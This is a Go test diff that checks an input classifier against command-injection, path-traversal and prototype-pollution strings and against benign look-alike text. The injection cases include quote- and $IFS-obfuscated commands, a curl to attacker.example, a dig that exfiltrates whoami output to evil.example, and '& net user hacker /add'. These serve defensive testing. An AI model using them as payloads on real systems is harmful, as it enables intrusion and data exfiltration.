@@ -297,3 +297,43 @@ func TestCommandWordSets(t *testing.T) {
 		}
 	}
 }
+
+// TestReviewedValues: the values two reviews of the command, path and
+// prototype checks found missed or flagged, each as it must be now.
+func TestReviewedValues(t *testing.T) {
+	for v, want := range map[string]Class{
+		// Commands through a path, quotes, backslashes, $IFS and $1.
+		"; /bin/c'a't -la": CommandInjection, "; /usr/bin/i'd'": CommandInjection, "| /usr/bin/wh\\oami": CommandInjection,
+		"; \"/bin/ca\"t -la": CommandInjection, "; /bin/\"cat\" -la": CommandInjection, "; /usr/bin/'id'": CommandInjection,
+		"; whoami.e'x'e": CommandInjection, ";$IFS$9id": CommandInjection, "; 'id'": CommandInjection,
+		"; curl http://attacker.example/x": CommandInjection, "; ping 10.0.0.1": CommandInjection,
+		"; host evil.example": CommandInjection, "| dig $(whoami).evil.example": CommandInjection,
+		"& net user hacker /add": CommandInjection, "; kill -9 1": CommandInjection, "; ls /": CommandInjection,
+		"; echo $HOME": CommandInjection, "; cat ~/.bashrc": CommandInjection,
+		// Text.
+		"Blog | Top Next.js Templates": None, "React & Vue | More Vue.js tips": None, "News | Read onet.pl": None,
+		"Sponsors: Vercel | astral.sh": None, "Node & Deno & bun.sh": None,
+		"Receivables: Gross & Net Accounts": None, "Gross & Net User count": None, "Gross | Net View": None,
+		"Coffee & I'd": None, "Mind your Q's & P's": None,
+		"Name;ID;Email": None, "Name | ID | Email": None, "Photo & ID": None, "Art & History": None,
+		"Time & Date": None, "N | E | S | W": None, "Guess | Who": None,
+		"Tom & Ruby's Diner": None, "Jack & Lua's Bakery": None, "Tom & Time's Up": None,
+		`Options: "No" | "Yes"`: None, `"Copy" & "Cut"`: None,
+		"Wash & Cut $30": None, "Jeans & Top $20": None, "Wash & Cut / Blow-dry": None,
+		"Price | Cut -20%": None, "Prep | Time ~15 min": None,
+		"Bus | Route 12": None, "Guest & Host": None, "Dine & Dash": None, "Ping me; ping me later": None,
+		"Curl up with a book; curl your hair": None,
+		// Paths.
+		"Home/.../Settings": None, "see https://github.com/.../issues/12": None, "src/.../main.go": None,
+		"1/.../3": None, "a/..../b": None, "....//....//secret": PathTraversal, "..././..././secret": PathTraversal,
+		"\xc0%ae\xc0%ae/x": PathTraversal,
+		// Prototype paths.
+		"constructor/prototypes": None, "/constructor/prototype/x": PrototypePollution,
+	} {
+		assert.Equal(t, want, String(v), "%q", v)
+	}
+	for _, v := range []string{"สวัสดีครับ ยินดีต้อนรับ / ok", "नमस्ते दुनिया / ok"} {
+		assert.Equal(t, None, String(v))
+		assert.LessOrEqual(t, testing.AllocsPerRun(20, func() { decodePath(v) }), 0.0, v)
+	}
+}
